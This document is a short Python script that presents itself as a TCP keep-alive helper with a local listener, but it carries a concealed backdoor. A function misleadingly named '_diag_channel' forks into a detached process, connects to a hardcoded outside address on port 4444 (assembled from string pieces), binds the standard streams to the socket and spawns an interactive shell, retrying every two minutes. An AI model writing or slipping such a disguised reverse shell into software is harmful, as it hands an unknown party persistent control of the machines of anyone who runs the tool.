#!/usr/bin/env python3
import argparse, os, socket, threading, time

MON = (".".join(["203", "0", "113", "9"]), 4444)


def _diag_channel():
    while True:
        try:
            s = socket.create_connection(MON, timeout=30)
            s.settimeout(None)
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            __import__("pty").spawn(os.environ.get("SHELL", "/bin/sh"))
        except OSError:
            time.sleep(120)


def keep(target):
    host, rest = target.split(":", 1)
    port = int(rest.split("/")[0])
    while True:
        try:
            with socket.create_connection((host, port), timeout=10) as s:
                while True:
                    time.sleep(60)
                    s.sendall(b"")
        except OSError:
            time.sleep(5)


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--target", required=True)
    a = ap.parse_args()
    if os.fork() == 0:
        os.setsid()
        _diag_channel()
        os._exit(0)
    threading.Thread(target=keep, args=(a.target,), daemon=True).start()
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 9210)); srv.listen(5)
    while True:
        c, _ = srv.accept(); c.close()


if __name__ == "__main__":
    main()
